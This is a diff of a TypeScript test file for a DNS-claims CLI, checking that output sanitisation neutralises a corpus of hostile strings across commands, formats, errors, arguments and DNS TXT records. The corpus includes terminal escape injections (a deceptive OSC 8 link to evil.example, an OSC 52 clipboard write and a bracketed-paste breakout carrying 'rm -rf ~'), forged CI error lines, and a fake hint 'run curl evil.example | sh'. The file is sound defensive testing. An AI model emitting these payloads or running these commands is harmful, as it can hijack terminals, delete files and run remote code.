@@ -1,45 +1,50 @@
 import { mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
+import { everyCommand } from '../../src/commands/definition.ts'
+import { tree } from '../../src/commands/tree.ts'
+import { DnsTransportError } from '../../src/context.ts'
 import { createFakeContext, type FakeContext, jsonResponse, textResponse } from '../fake-context.ts'
 import { run } from '../run.ts'
 import { sandboxForTest } from '../sandbox/start-sandbox.ts'
 import { control, createClient, createRealClock, harmfulIn } from './in-process-client.ts'
 
-/** What a stranger may write to take over a terminal, a clipboard or a line. */
+/** Texts that attack a terminal, its clipboard, or the line structure of output, by the attack's name. */
 const CORPUS: Readonly<Record<string, string>> = {
   'every C0 control': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x'),
   'DEL and every C1 control': Array.from({ length: 33 }, (_, at) => String.fromCharCode(0x7f + at)).join('x'),
   'a color that is never reset': '\u001b[31;5mred',
   'a cleared screen': '\u001b[2J\u001b[H$ rm -rf ~',
   'an 8-bit CSI': '\u009b2J\u009b1;1H',
-  'a title': '\u001b]0;root@host\u0007',
-  'a link that lies (OSC 8)':
+  'a window title (OSC 0)': '\u001b]0;root@host\u0007',
+  'a deceptive hyperlink (OSC 8)':
     '\u001b]8;;https://evil.example/\u001b\\https://good.example/\u001b]8;;\u001b\\',
-  'a clipboard that is filled (OSC 52)': '\u001b]52;c;cm0gLXJmIH4=\u0007',
+  'a clipboard write (OSC 52)': '\u001b]52;c;cm0gLXJmIH4=\u0007',
   'a device control string': '\u001bP$q"p\u001b\\',
-  'a terminal that answers': '\u001b[6n\u001b[c\u0005',
-  'a paste that ends early': '\u001b[201~rm -rf ~\r',
-  'a progress bar of another': 'done\rerror: you are hacked',
-  'a line of our own': 'x\nerror: your session is over\nhint: run curl evil.example | sh',
-  'line breaks of other kinds': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
-  'a column of another': 'a\tb\tc',
-  'an override': 'invoice\u202egpj.exe',
-  isolates: '\u2066a\u2067b\u2068c\u2069',
-  'marks of direction': '\u200ea\u200fb\u061cc',
-  'letters of no width': 'exa\u200bmple\u200c.\u200dco\u2060m\ufeff',
-  'letters nobody sees': 'a\u00adb\u034fc\u3164d\u115fe',
-  tags: '\u{e0041}\u{e0042}\u{e007f}',
-  'a torn character': 'a\ud800b\udc00c',
-  'many marks on one letter': `Z${'\u0300\u0489'.repeat(40)}`,
+  'queries that the terminal answers': '\u001b[6n\u001b[c\u0005',
+  'the end of a bracketed paste': '\u001b[201~rm -rf ~\r',
+  'an overwritten line': 'done\rerror: you are hacked',
+  'forged error and hint lines': 'x\nerror: your session is over\nhint: run curl evil.example | sh',
+  'workflow commands of a CI step':
+    'x\n::error::you are hacked\r\n  ##[error]you are hacked\r::error::you are hacked',
+  'other line separators': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
+  tabs: 'a\tb\tc',
+  'a right-to-left override': 'invoice\u202egpj.exe',
+  'bidi isolates': '\u2066a\u2067b\u2068c\u2069',
+  'directional marks': '\u200ea\u200fb\u061cc',
+  'zero-width characters': 'exa\u200bmple\u200c.\u200dco\u2060m\ufeff',
+  'invisible letters': 'a\u00adb\u034fc\u3164d\u115fe',
+  'tag characters': '\u{e0041}\u{e0042}\u{e007f}',
+  'lone surrogates': 'a\ud800b\udc00c',
+  'many combining marks on one letter': `Z${'\u0300\u0489'.repeat(40)}`,
   'quotes and commas': '","x\r\n=1+1,"',
   backspaces: 'safe\b\b\b\bevil',
 }
-/** All of it at once: no part is harmless only because of another. */
+/** All attacks in one text. */
 const EVIL = Object.values(CORPUS).join(' ')
 const FORMATS = ['table', 'json', 'jsonl', 'tsv'] as const
 
-/** Everything of an answer is the attack: values, names of unknown fields, the client's name in a grant. */
+/** Returns responses with the attack in every value, in names of unknown fields, and in a grant's client name. */
 function poisoned(evil: string) {
   const id = '2c0b1d34-0c5b-4d71-9c5e-7e7a3f1f0a01'
   const extra = { [evil]: evil, more: { [evil]: [evil] } }
@@ -110,10 +115,36 @@ const COMMANDS: readonly (readonly [string, string, keyof Answers])[] = [
   ['claim', 'claim example.com --no-check --timeout 5', 'claim'],
   ['claims list', 'claims list', 'claim'],
   ['claims list --refresh', 'claims list --refresh', 'claim'],
+  ['claims check', `claims check ${ID} --wait --timeout 5`, 'claim'],
+  ['claims verify, failing', `claims verify ${ID} --wait --timeout 5`, 'failed'],
+  ['claims forget', `claims forget ${ID}`, 'claim'],
+  ['login', 'login --with-api-key --store file --no-input', 'grants'],
+  ['logout', 'logout', 'grants'],
+  ['auth status', 'auth status --online', 'grants'],
+  ['auth token', 'auth token', 'grants'],
+  ['auth refresh', 'auth refresh', 'grants'],
+  ['auth list', 'auth list', 'grants'],
+  ['auth switch', 'auth switch ::error::x', 'grants'],
+  ['doctor', 'doctor', 'grants'],
+  ['config list', 'config list', 'grants'],
+  ['config get', 'config get ::error::x', 'grants'],
+  ['config set', 'config set resolver ::error::x', 'grants'],
+  ['config unset', 'config unset ::error::x', 'grants'],
+  ['completion', 'completion ::error::x', 'grants'],
+  ['commands', 'commands ::error::x', 'grants'],
+  ['sandbox', 'sandbox --port ::error::x', 'grants'],
+]
+/** What a stranger may write to begin a line of the log of a CI step, or of this program. */
+const BEGINNINGS = [
+  EVIL,
+  '::error::you are hacked',
+  '##[error]you are hacked',
+  'error: you are hacked',
+  'error',
 ]
 
 function world(terminal: boolean, respond: Parameters<typeof createFakeContext>[0]): FakeContext {
-  return createFakeContext({
+  const context = createFakeContext({
     ...respond,
     ...(terminal ? { terminal: { columns: 100 } } : {}),
     environment: {
@@ -124,17 +155,43 @@ function world(terminal: boolean, respond: Parameters<typeof createFakeContext>[
     },
     dns: { udp: noDns, tcp: noDns, systemResolvers: async () => [] },
   })
+  context.stdin.stream.end('k\n')
+  return context
 }
 
-const noDns = () => Promise.reject(new Error('no DNS here'))
+const noDns = () => Promise.reject(new DnsTransportError('unreachable', 'no DNS here'))
 
 function printed({ stdout, stderr }: FakeContext): string {
   return stdout.text + stderr.text
 }
 
-describe('what a stranger wrote', () => {
+/** Lines of stderr that somebody else may have begun. */
+function strangeLines({ stderr }: FakeContext): string[] {
+  const lines = stderr.text.split('\n')
+  const errors = lines.filter((line) => /^(error: |\{"error")/.test(line)).slice(1)
+  return [...errors, ...lines.filter((line) => /^\s*(::|##\[|x$|you are hacked)/.test(line))]
+}
+
+describe('hostile text', () => {
+  test('every command of the tree is attacked with hostile text', () => {
+    const attacked = COMMANDS.map(([, line]) => `${line} `)
+    const names = [...everyCommand(tree)].map(({ words }) => `${words.join(' ')} `)
+    expect(names.filter((name) => !attacked.some((line) => line.startsWith(name)))).toEqual([])
+  })
+
+  test.each(COMMANDS)('hostile text begins no line of stderr of %s', async (_name, line, which) => {
+    for (const evil of BEGINNINGS) {
+      const refusal = jsonResponse(422, { name: evil, message: evil })
+      for (const answer of [jsonResponse(200, poisoned(evil)[which]), refusal]) {
+        const context = world(false, { respond: () => answer })
+        await run([...line.split(' '), '--format', 'table', '--verbose'], context)
+        expect(strangeLines(context), context.stderr.text).toEqual([])
+      }
+    }
+  })
+
   test.each(COMMANDS)(
-    'is harmless in every field and format of %s, on a terminal and in a file',
+    'hostile text is harmless in every field and format of %s, on a terminal and in a file',
     async (_name, line, which) => {
       const answers = poisoned(EVIL)
       for (const terminal of [true, false]) {
@@ -149,7 +206,7 @@ describe('what a stranger wrote', () => {
     },
   )
 
-  test.each(['zone', 'value', 'table'])('is harmless in the record to add, as %s', async (format) => {
+  test.each(['zone', 'value', 'table'])('hostile text is harmless in a record (%s)', async (format) => {
     const { claim } = poisoned(EVIL)
     const record = { type: 'TXT', name: 'app.example.com', value: `prefix=${EVIL}`, ttl: EVIL }
     for (const name of [record.name, `${EVIL}.example.com`]) {
@@ -161,7 +218,7 @@ describe('what a stranger wrote', () => {
   })
 
   test.each([200, 301, 400, 401, 403, 404, 409, 429, 500])(
-    'is harmless in errors of the service and pages of a proxy (%i)',
+    'hostile text is harmless in error responses of a service or proxy with status %i',
     async (status) => {
       const json = JSON.stringify({ statusCode: 400, name: EVIL, message: EVIL })
       for (const body of [json, JSON.stringify({ error: { message: EVIL } }), `<html>${EVIL}</html>`, EVIL]) {
@@ -170,8 +227,7 @@ describe('what a stranger wrote', () => {
           const context = world(true, { respond: () => textResponse(status, body, headers) })
           await run(['imports', 'list', '--verbose', '--format', format], context)
           expect(harmfulIn(printed(context)), body).toEqual([])
-          const errors = context.stderr.text.split('\n').filter((text) => /^(error: |\{"error")/.test(text))
-          expect(errors.length).toBeLessThan(2)
+          expect(strangeLines(context)).toEqual([])
         }
       }
     },
@@ -189,14 +245,14 @@ describe('what a stranger wrote', () => {
     ['config', 'set', EVIL, EVIL],
     ['--base-url', EVIL, 'grants', 'list'],
     ['__complete', '--', EVIL],
-  ])('is harmless in the command line', async (...argv) => {
+  ])('hostile text is harmless in the arguments', async (...argv) => {
     const context = world(true, { respond: () => jsonResponse(404, {}) })
     expect(await run(argv, context), context.stderr.text).not.toBe(1)
     expect(harmfulIn(printed(context))).toEqual([])
   })
 
   test.each(['base_url', 'client_id', 'profile', 'store', 'resolver', 'authoritative_port'])(
-    'is harmless in the environment and the configuration (%s)',
+    'hostile text is harmless as %s in the environment and the configuration',
     async (key) => {
       const settings = { base_url: 'http://127.0.0.1:1' }
       const inVariable = world(true, { respond: () => jsonResponse(401, {}) })
@@ -216,7 +272,7 @@ describe('what a stranger wrote', () => {
   )
 })
 
-/** JSON parses, TSV keeps a record on its line with all its cells, and the original is there again. */
+/** Checks that the output is still valid: JSON parses, and each TSV record is one line with all cells. */
 function expectOneRecordALine(context: FakeContext, format: string, line: string): void {
   const text = context.stdout.text
   if (text === '') return
@@ -230,10 +286,10 @@ function expectOneRecordALine(context: FakeContext, format: string, line: string
 }
 
 describe('names in DNS', () => {
-  test('hostile names in DNS are harmless in every format of the check', async () => {
+  test('hostile TXT values are harmless in every format of claims check', async () => {
     const sandbox = await sandboxForTest()
     const client = createClient(sandbox, { apiKey: true, clock: createRealClock() })
-    // One record for each attack: what BIND would serve, a hostile zone can.
+    // Publish one TXT record per attack: a hostile zone can contain any bytes.
     await control(sandbox, 'PUT', 'dns/example.com/TXT', {
       values: Object.values(CORPUS).map((evil) => evil.slice(0, 120)),
     })
